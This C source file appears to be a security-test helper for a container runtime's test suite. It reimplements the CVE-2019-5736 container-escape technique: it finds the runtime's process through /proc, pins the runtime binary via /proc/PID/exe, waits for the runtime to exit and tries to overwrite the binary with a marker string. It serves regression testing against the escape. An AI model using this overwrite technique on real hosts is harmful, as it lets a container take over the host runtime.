/* The CVE-2019-5736 attacker, for tests/bats/security.bats. It runs inside
 * a container that holds CAP_SYS_PTRACE and has no user namespace, and
 * waits for a process whose executable's path contains NAME, or whose
 * name (/proc/PID/comm) is NAME (the runtime entering the container during
 * create or exec: a runtime running from a view of its binary that has no
 * path, such as a memfd or a detached mount, keeps its name). It pins that
 * executable
 * with an O_PATH fd from /proc/PID/exe, then tries to get a writable fd to
 * it: directly, and again once the runtime has exited (while it runs,
 * ETXTBSY). If it can, it writes MARKER at offset 0 of the file, as the
 * real exploit overwrote runc. Each step is reported, one line each, to
 * REPORT (a file the test reads):
 *   caught PID LINK | open-wr: ok|ERR | write: ok|ERR | timeout, then done
 * Usage: exe-attack NAME REPORT SECONDS. Built static: it runs in a busybox
 * rootfs. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MARKER "#!HIJACKED-BY-THE-CONTAINER\n"

static FILE *report;

static void say(const char *fmt, const char *a, const char *b)
{
	fprintf(report, fmt, a, b);
	fflush(report);
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* The process PID is called NAME (/proc/PID/comm). */
static int named(const char *pid, const char *name)
{
	char path[64], comm[64] = "";
	snprintf(path, sizeof(path), "/proc/%s/comm", pid);
	FILE *f = fopen(path, "r");
	if (f == NULL)
		return 0;
	if (fgets(comm, sizeof(comm), f) == NULL)
		comm[0] = '\0';
	fclose(f);
	comm[strcspn(comm, "\n")] = '\0';
	return strcmp(comm, name) == 0;
}

/* fd is the file at path in this container: a process named NAME that
 * has just executed the container's program, not the runtime */
static int own_file(int fd, const char *path)
{
	struct stat a, b;
	return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

/* An O_PATH fd to the executable of a process running NAME, or -1. */
static int catch_runtime(const char *name, char *link, size_t linksz, char *pidname)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int found = -1;
	if (d == NULL)
		return -1;
	while (found < 0 && (e = readdir(d)) != NULL) {
		char path[64], fdpath[64];
		if (e->d_name[0] < '1' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%s/exe", e->d_name);
		int fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		/* what the fd holds, not what the pid runs now */
		snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
		ssize_t n = readlink(fdpath, link, linksz - 1);
		if (n > 0) {
			link[n] = '\0';
			if (strstr(link, name) || (named(e->d_name, name) && !own_file(fd, link))) {
				snprintf(pidname, 32, "%s", e->d_name);
				found = fd;
				continue;
			}
		}
		close(fd);
	}
	closedir(d);
	return found;
}

int main(int argc, char **argv)
{
	char link[4096], pid[32], fdpath[64];
	if (argc != 4) {
		fprintf(stderr, "usage: exe-attack NAME REPORT SECONDS\n");
		return 2;
	}
	report = fopen(argv[2], "a");
	if (report == NULL)
		return 2;
	double deadline = now() + atof(argv[3]);
	int fd;
	while ((fd = catch_runtime(argv[1], link, sizeof(link), pid)) < 0) {
		if (now() > deadline) {
			say("timeout%s%s\n", "", "");
			say("done%s%s\n", "", "");
			return 1;
		}
	}
	say("caught %s %s\n", pid, link);
	snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
	/* ETXTBSY while the runtime still executes it: wait for it to go */
	int wfd;
	while ((wfd = open(fdpath, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY && now() < deadline)
		usleep(5000);
	if (wfd < 0) {
		say("open-wr: %s%s\n", strerror(errno), "");
		say("done%s%s\n", "", "");
		return 0;
	}
	say("open-wr: ok%s%s\n", "", "");
	if (pwrite(wfd, MARKER, strlen(MARKER), 0) != (ssize_t)strlen(MARKER))
		say("write: %s%s\n", strerror(errno), "");
	else
		say("write: ok%s%s\n", "", "");
	say("done%s%s\n", "", "");
	return 0;
}
